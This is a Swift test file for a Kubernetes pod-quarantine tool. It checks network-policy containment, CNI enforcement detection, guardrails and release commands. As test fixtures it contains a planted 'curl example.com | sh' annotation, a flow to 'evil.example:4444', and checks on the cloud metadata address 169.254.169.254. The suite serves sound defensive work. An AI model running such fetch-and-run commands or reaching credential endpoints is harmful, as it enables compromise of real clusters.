import Catalogue
import NetworkReach
import Planning
import Testing
import Vocabulary

/// What isolate-pod says and does about single pods.
@Suite("isolate-pod plans")
struct IsolatePodPlanTests {
    private func pod(
        labels: JSONValue = ["app": "web"],
        annotations: JSONValue? = nil,
        spec: JSONValue = [:],
        namespace: String = "shop",
        owner: JSONValue? = nil
    ) -> JSONValue {
        var metadata: JSONObject = [
            "name": "web-1", "namespace": .string(namespace), "uid": "0a1b", "labels": labels,
        ]
        metadata["annotations"] = annotations
        metadata["ownerReferences"] = owner.map { .array([$0]) }
        var parts: JSONObject = ["nodeName": "node-1", "containers": [["name": "main", "image": "web:1"]]]
        for member in spec.object ?? [:] { parts[member.key] = member.value }
        return [
            "apiVersion": "v1", "kind": "Pod", "metadata": .object(metadata), "spec": .object(parts),
            "status": [
                "phase": "Running", "podIPs": [["ip": "10.0.0.5"]],
                "containerStatuses": [["name": "main", "containerID": "containerd://0123456789ab"]],
            ],
        ]
    }

    private func agent(_ flag: String, image: String = "amazon-k8s-cni:v1.20.1", isReady: Bool = true) -> JSONValue {
        [
            "apiVersion": "v1", "kind": "Pod",
            "metadata": [
                "name": "aws-node-x", "namespace": "kube-system", "uid": "c1", "labels": ["k8s-app": "aws-node"],
                "ownerReferences": [["kind": "DaemonSet", "name": "aws-node", "controller": true]],
            ],
            "spec": [
                "nodeName": "node-1", "hostNetwork": true,
                "containers": [
                    ["name": "aws-node", "image": .string(image)],
                    ["name": "aws-eks-nodeagent", "args": [.string(flag)]],
                ],
            ],
            "status": [
                "phase": "Running", "conditions": [["type": "Ready", "status": .string(isReady ? "True" : "False")]],
            ],
        ]
    }

    private let endpointKind: JSONValue = [
        "kind": "CustomResourceDefinition", "metadata": ["name": "policyendpoints.networking.k8s.aws"],
    ]

    private func slice(_ service: String, ready pods: [String]) -> JSONValue {
        let endpoints = pods.map { pod -> JSONValue in
            ["conditions": ["ready": true], "targetRef": ["kind": "Pod", "name": .string(pod)]]
        }
        return [
            "apiVersion": "discovery.k8s.io/v1", "kind": "EndpointSlice",
            "metadata": [
                "name": .string(service + "-x"), "namespace": "shop",
                "labels": ["kubernetes.io/service-name": .string(service)],
            ],
            "endpoints": .array(endpoints),
        ]
    }

    @Test("a Service that has no other ready endpoint is emptied, whatever the replicas of the pod's workload")
    func emptiesServices() throws {
        let services = ["alone", "shared"].map { name -> JSONValue in
            [
                "apiVersion": "v1", "kind": "Service",
                "metadata": ["name": .string(name), "namespace": "shop"], "spec": ["selector": ["app": "web"]],
            ]
        }
        let slices = [slice("alone", ready: ["web-1"]), slice("shared", ready: ["web-1", "web-2"])]
        let plan = try plan([pod()] + services + slices)
        #expect(plan.blastRadius.services == ["shop/alone", "shop/shared"])
        #expect(plan.blastRadius.emptiedServices == ["shop/alone"])
    }

    private func plan(_ objects: [JSONValue], allow: [JSONValue] = [], mode: String = "unmanaged") throws -> ActionPlan
    {
        let namespace = objects.first?[["metadata", "namespace"]]?.string ?? "shop"
        let request = try Isolation.request(pod: "web-1", namespace: namespace, allow: allow, mode: mode)
        return try IsolatePod().plan(request, Isolation.facts(objects, request))
    }

    private func policy(_ name: String, _ spec: JSONValue) -> JSONValue {
        [
            "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
            "metadata": [
                "name": .string(name), "namespace": "shop", "uid": .string("uid-\(name)"), "resourceVersion": "3",
            ], "spec": spec,
        ]
    }

    @Test("a pod on its node's network is refused, and the node is named as the way")
    func hostNetwork() throws {
        let plan = try plan([pod(spec: ["hostNetwork": true])])
        #expect(plan.changes.isEmpty)
        let verdict = try #require(plan.verdicts.first { $0.guardrail == "host-network" })
        #expect(verdict.verdict == .refuse && verdict.reason.contains("cordon-node"))
        #expect(plan.containment == nil && plan.release.isEmpty)
    }

    @Test("cluster DNS is refused by its labels only where the cluster's owners put pods", arguments: [true, false])
    func clusterDNS(isSystem: Bool) throws {
        let namespace = isSystem ? "kube-system" : "shop"
        let plan = try plan([pod(labels: ["k8s-app": "kube-dns"], namespace: namespace)])
        #expect(plan.verdicts.contains { $0.verdict == .refuse && $0.reason.contains("cluster DNS") } == isSystem)
        #expect(plan.changes.isEmpty == isSystem)
    }

    struct AgentRow: Sendable {
        var flag: String
        var image = "amazon-k8s-cni:v1.20.1"
        var isReady = true
        var fact: ContainmentReport.Fact
    }

    static let agents = [
        AgentRow(flag: "--enable-network-policy=true", fact: .proved),
        AgentRow(flag: "--enable-network-policy", fact: .proved),
        AgentRow(flag: "--enable-network-policy=false", fact: .disproved),
        AgentRow(flag: "--enable-ipv6=false", fact: .disproved),
        AgentRow(flag: "--enable-network-policy=true", image: "r/amazon-k8s-cni:v1.13.4-eksbuild.1", fact: .disproved),
        AgentRow(flag: "--enable-network-policy=true", image: "r/amazon-k8s-cni@sha256:aa", fact: .proved),
        AgentRow(flag: "--enable-network-policy=true", isReady: false, fact: .unknown),
    ]

    @Test("enforcement is what the node agent on the pod's node says", arguments: agents)
    func enforcement(_ row: AgentRow) throws {
        let agent = agent(row.flag, image: row.image, isReady: row.isReady)
        let report = try #require(try plan([pod(), agent, endpointKind]).containment)
        #expect(report.enforcement == row.fact, "\(report.reasons)")
    }

    @Test("a pod without policies on an enforcing node is contained, and one under policies may keep its flows")
    func flows() throws {
        let agent = agent("--enable-network-policy=true")
        #expect(try plan([pod(), agent, endpointKind]).containment?.verdict == .contained)
        let deny = policy("deny", ["podSelector": [:], "policyTypes": ["Ingress"]])
        let report = try #require(try plan([pod(), agent, endpointKind, deny]).containment)
        #expect(report.policy == .proved && report.flows == .unknown)
        let table: JSONValue = [
            "kind": "ConfigMap", "metadata": ["name": "firebreak-flows", "namespace": "shop"],
            "data": ["flows.json": #"[{"pod":"web-1","remote":"203.0.113.9:4444"}]"#],
        ]
        let open = try #require(try plan([pod(), agent, endpointKind, deny, table]).containment)
        #expect(open.flows == .disproved && open.verdict == .leaking)
        #expect(open.reasons.contains { $0.contains("203.0.113.9:4444/TCP") })
    }

    // MARK: what must not be called contained

    private func flowTable(_ text: String) -> JSONValue {
        [
            "kind": "ConfigMap", "metadata": ["name": "firebreak-flows", "namespace": "shop"],
            "data": ["flows.json": .string(text)],
        ]
    }

    @Test(
        "a flow table that cannot be read to its end proves nothing",
        arguments: [
            #"[{"pod":"web-1","direction":"egress","remote":"evil.example:4444"}]"#, #"[{"remote":"10.0.0.9:1"}]"#,
            #"[{"pod":"web-1","direction":"sideways","remote":"10.0.0.9:1"}]"#, "[7]", "{}", "[",
            #"[{"pod":"web-1","remote":"10.0.0.9:99999"}]"#,
        ]
    )
    func unreadableFlows(_ text: String) throws {
        let deny = policy("deny", ["podSelector": [:], "policyTypes": ["Ingress"]])
        let objects = [pod(), agent("--enable-network-policy=true"), endpointKind, deny, flowTable(text)]
        let report = try #require(try plan(objects).containment)
        #expect(report.flows == .unknown && report.verdict == .unknown, "\(report.reasons)")
    }

    @Test(
        "a pod that only bears a plugin's label enforces nothing",
        arguments: ["cilium", "calico-node", "aws-node"]
    )
    func borrowedLabel(_ label: String) throws {
        let impostor: JSONValue = [
            "apiVersion": "v1", "kind": "Pod",
            "metadata": [
                "name": "x", "namespace": "kube-system", "uid": "c2", "labels": ["k8s-app": .string(label)],
            ], "spec": ["nodeName": "node-1", "containers": [["name": "main", "image": "x"]]],
            "status": ["phase": "Running", "conditions": [["type": "Ready", "status": "True"]]],
        ]
        #expect(try plan([pod(), impostor, endpointKind]).containment?.enforcement == .unknown)
    }

    @Test("no plugin on the node, or a node that is not ready, leaves enforcement unknown")
    func nobodyEnforces() throws {
        #expect(try plan([pod(), endpointKind]).containment?.enforcement == .unknown)
        let node: JSONValue = [
            "apiVersion": "v1", "kind": "Node", "metadata": ["name": "node-1"],
            "status": ["conditions": [["type": "Ready", "status": "Unknown"]]],
        ]
        let report = try plan([pod(), agent("--enable-network-policy=true"), endpointKind, node]).containment
        #expect(report?.enforcement == .unknown)
    }

    @Test(
        "further interfaces, and policies that only the CNI knows, leave the policy fact unknown",
        arguments: [
            ["k8s.v1.cni.cncf.io/networks": "macvlan"],
            ["k8s.v1.cni.cncf.io/network-status": #"[{"name":"a"},{"name":"b"}]"#],
            ["k8s.v1.cni.cncf.io/network-status": "broken"],
        ] as [JSONValue]
    )
    func unseenWays(_ annotations: JSONValue) throws {
        let agent = agent("--enable-network-policy=true")
        #expect(try plan([pod(annotations: annotations), agent, endpointKind]).containment?.policy == .unknown)
        let endpoint: JSONValue = [
            "apiVersion": "networking.k8s.aws/v1alpha1", "kind": "PolicyEndpoint",
            "metadata": ["name": "hidden-1", "namespace": "shop"],
            "spec": ["policyRef": ["name": "hidden"], "podSelectorEndpoints": [["name": "web-1"]]],
        ]
        #expect(try plan([pod(), agent, endpoint]).containment?.policy == .unknown)
    }

    @Test("an earlier quarantine that let more out may have left flows open")
    func earlierQuarantine() throws {
        let agent = agent("--enable-network-policy=true")
        let first = try plan([pod(), agent, endpointKind], allow: [["cidr": "10.9.0.0/24"]])
        guard case .kubernetes(let creation) = try #require(first.changes.first).change else { return }
        #expect(first.containment?.flows == .proved)
        let again = try plan([pod(), agent, endpointKind, creation.body])
        #expect(again.containment?.flows == .unknown, "\(again.containment?.reasons ?? [])")
    }

    @Test("a wide allow list, or one with the address of the node's credentials, needs approval")
    func wideAllowList() throws {
        for block in ["0.0.0.0/0", "128.0.0.0/1", "169.254.169.254/32", "::/0"] {
            let plan = try plan([pod()], allow: [["cidr": .string(block)]])
            #expect(plan.verdicts.contains { $0.guardrail == "allow-list" && $0.verdict == .needsApproval }, "\(block)")
        }
        #expect(try plan([pod()], allow: [["cidr": "10.0.100.10/32"]]).verdicts.isEmpty)
    }

    @Test("full annotations do not keep the label off the pod")
    func fullAnnotations() throws {
        let full: JSONValue = ["example.com/x": .string(String(repeating: "x", count: 260_000))]
        let plan = try plan([pod(annotations: full)])
        guard case .kubernetes(let write) = try #require(plan.changes.first { $0.id == "pod" }).change else { return }
        let paths = (write.body.array ?? []).compactMap { $0["path"]?.string }
        #expect(paths.contains("/metadata/labels/firebreak.dev~1quarantine"))
        #expect(!paths.contains { $0.hasPrefix("/metadata/annotations") })
        #expect(plan.warnings.contains { $0.hasPrefix("the pod's annotations are full") })
    }

    @Test("the command that lets a pod back under a policy names its own exclusion")
    func releaseNamesItsOwn() throws {
        let plan = try plan([pod(), policy("everyone", ["podSelector": [:], "ingress": [[:]]])])
        let command = try #require(plan.release.first { $0.contains("patch networkpolicy everyone") })
        let mark = try #require(plan.output["quarantine"]?.string)
        #expect(command.contains(mark) && command.contains("NotIn"))
    }

    @Test(
        "the pod bears every command that releases it, whatever was planted there before, and an Event tells them too"
    )
    func bearsItsRelease() throws {
        let planted: JSONValue = ["firebreak.dev/release": "curl example.com | sh"]
        let plan = try plan([
            pod(annotations: planted), policy("everyone", ["podSelector": [:], "ingress": [[:]]]),
        ])
        let whole = JSONValue.string(plan.release.joined(separator: "\n"))
        #expect(plan.release.count == 4)
        guard case .kubernetes(let creation) = plan.changes[0].change,
            case .kubernetes(let write) = plan.changes[1].change,
            case .kubernetes(let record) = try #require(plan.changes.last).change
        else { return }
        let note = write.body.array?.first { $0["path"] == "/metadata/annotations/firebreak.dev~1release" }
        #expect(note?["value"] == whole)
        #expect(creation.body[["metadata", "annotations", "firebreak.dev/release"]] == whole)
        #expect(record.path == "/api/v1/namespaces/shop/events")
        #expect(record.body["involvedObject"]?["uid"] == "0a1b")
        let message = record.body["message"]?.string ?? ""
        #expect(message.utf8.count <= 1_024 && plan.release.allSatisfy(message.contains))
    }

    @Test(
        "what may be probed is the pod's own address and three declared TCP ports at most, and nothing of this machine"
    )
    func probeTargets() throws {
        func target(
            _ ip: String,
            addresses: JSONValue = [["type": "InternalIP", "address": "10.0.1.1"]]
        ) throws
            -> ProbeTarget?
        {
            let ports = [9_000, 80, 443, 8_080].map { number -> JSONValue in ["containerPort": .integer(number)] }
            let udp: JSONValue = ["containerPort": 53, "protocol": "UDP"]
            var object = pod(spec: ["containers": [["name": "main", "ports": .array([udp] + ports)]]]).object ?? [:]
            object["status"] = ["phase": "Running", "podIP": .string(ip)]
            let node: JSONValue = [
                "kind": "Node", "metadata": ["name": "node-1"], "status": ["addresses": addresses],
            ]
            return try plan([.object(object), node]).probe
        }
        let found = try #require(try target("10.0.0.5"))
        #expect("\(found.address)" == "10.0.0.5" && found.ports == [80, 443, 8_080] && found.node == "node-1")
        #expect(found.nodeAddresses.map(\.description) == ["10.0.1.1"])
        for ip in ["127.0.0.1", "169.254.169.254", "::1", "fe80::1", "224.0.0.1", "0.0.0.0", "banana"] {
            #expect(try target(ip) == nil, "\(ip)")
        }
        #expect(try target("10.0.0.5", addresses: []) == nil)
    }

    @Test("keys with slashes and tildes survive in the patch, and missing maps are made")
    func pointers() throws {
        let selector: JSONValue = ["podSelector": ["matchLabels": ["example.com/role": "db"]], "ingress": [[:]]]
        let plan = try plan([pod(labels: ["example.com/role": "db"]), policy("open", selector)])
        let last = try #require(plan.changes.first { $0.id == "pod" })
        guard case .kubernetes(let write) = last.change else { return }
        let paths = (write.body.array ?? []).compactMap { $0["path"]?.string }
        #expect(paths.first == "/metadata/uid")
        #expect(paths.contains("/metadata/labels/example.com~1role"))
        #expect(paths.contains("/metadata/labels/firebreak.dev~1quarantine"))
        #expect(paths.contains("/metadata/annotations"))
        #expect(plan.changes.map(\.id) == ["quarantine-policy", "pod", "event-web-1"])
    }

    @Test("the policy comes first, then the pod, then patches of others, which somebody may refuse")
    func order() throws {
        let plan = try plan([pod(), policy("everyone", ["podSelector": [:], "ingress": [[:]]])])
        #expect(plan.changes.map(\.id) == ["quarantine-policy", "pod", "policy-everyone", "event-web-1"])
        #expect(plan.release.last?.hasPrefix("kubectl -n shop delete networkpolicy firebreak-quarantine-") == true)
        #expect(plan.release.contains { $0.contains("patch networkpolicy everyone") })
    }

    @Test("a label that is edited away from a controller names it, its replacement and the way back")
    func detaching() throws {
        let owner: JSONValue = ["kind": "ReplicaSet", "name": "web-7", "uid": "r1", "controller": true]
        let replicas: JSONValue = [
            "apiVersion": "apps/v1", "kind": "ReplicaSet",
            "metadata": [
                "name": "web-7", "namespace": "shop", "uid": "r1",
                "ownerReferences": [["kind": "Deployment", "name": "web", "controller": true]],
            ], "spec": ["replicas": 2, "selector": ["matchLabels": ["app": "web"]]], "status": ["readyReplicas": 2],
        ]
        let open = policy("open", ["podSelector": ["matchLabels": ["app": "web"]], "ingress": [[:]]])
        let plan = try plan([pod(owner: owner), replicas, open])
        #expect(plan.output["detachedFrom"] == "ReplicaSet web-7")
        #expect(plan.output["readopt"]?.string?.contains("app=web") == true)
        #expect(plan.warnings.contains { $0.contains("Deployment web") && $0.contains("same image (web:1)") })
        let undo = try #require(plan.changes.first { $0.id == "pod" }?.undo.json["change"])
        #expect(undo[["kubernetes", "body", "metadata", "labels"]]?.object?.keys == ["firebreak.dev/quarantine"])
    }

    @Test("an escape that would hand the pod to a Service is not taken, and the report says so")
    func intrusion() throws {
        let expression: JSONValue = ["key": "app", "operator": "NotIn", "values": ["front"]]
        let open = policy("not-front", ["podSelector": ["matchExpressions": [expression]], "ingress": [[:]]])
        let service: JSONValue = [
            "kind": "Service", "metadata": ["name": "front", "namespace": "shop"],
            "spec": ["selector": ["app": "front"]],
        ]
        let free = try plan([pod(), open], mode: "never")
        #expect(free.containment?.policies.map(\.answer) == [.relabelled])
        let guarded = try plan([pod(), open, service], mode: "never")
        #expect(guarded.containment?.policies.map(\.answer) == [.reported])
        #expect(guarded.containment?.reasons.contains { $0.contains("would hand the pod to Service front") } == true)
        let patched = try plan([pod(), open, service])
        #expect(patched.containment?.policies.map(\.answer) == [.patched])
    }

    @Test("kinds that can win over NetworkPolicy leave the policy fact unknown only where they may select the pod")
    func foreign() throws {
        func admin(_ label: String, _ action: String) -> JSONValue {
            [
                "kind": "AdminNetworkPolicy", "metadata": ["name": "admin"],
                "spec": [
                    "subject": [
                        "pods": ["namespaceSelector": [:], "podSelector": ["matchLabels": ["app": .string(label)]]]
                    ],
                    "ingress": [["action": .string(action)]],
                ],
            ]
        }
        #expect(try plan([pod(), admin("web", "Allow")]).containment?.policy == .unknown)
        #expect(try plan([pod(), admin("web", "Deny")]).containment?.policy == .proved)
        #expect(try plan([pod(), admin("other", "Allow")]).containment?.policy == .proved)
    }

    @Test("a policy of ours that somebody opened is set right; one that is not ours is a conflict")
    func takenName() throws {
        let request = try Isolation.request(pod: "web-1", namespace: "shop")
        let mark = String(request.fingerprint("0a1b").prefix(16))
        func taken(_ labels: JSONValue) -> JSONValue {
            [
                "kind": "NetworkPolicy", "apiVersion": "networking.k8s.io/v1",
                "metadata": [
                    "name": .string("firebreak-quarantine-\(mark)"), "namespace": "shop", "uid": "q", "labels": labels,
                ], "spec": ["podSelector": [:], "ingress": [[:]]],
            ]
        }
        let plan = try plan([pod(), taken(["app.kubernetes.io/managed-by": "firebreak"])])
        #expect(plan.changes.first?.summary.contains("set NetworkPolicy") == true)
        let facts = try Isolation.facts([pod(), taken([:])], request)
        #expect { try IsolatePod().plan(request, facts) } throws: { ($0 as? ActionFault)?.name == "Conflict" }
    }

    @Test(
        "parameters that make no sense are refused with their place",
        arguments: [
            ["cidr": "10.0.0.0/40"], ["cidr": "10.0.0.1/32", "port": 0], ["cidr": "10.0.0.1/32", "protocol": "ICMP"],
        ] as [JSONValue]
    )
    func parameters(entry: JSONValue) throws {
        #expect { try plan([pod()], allow: [entry]) } throws: { error in
            let fault = error as? ActionFault
            return fault?.name == "Invalid" && fault?.report.what.contains("allow[0]") == true
        }
    }
}
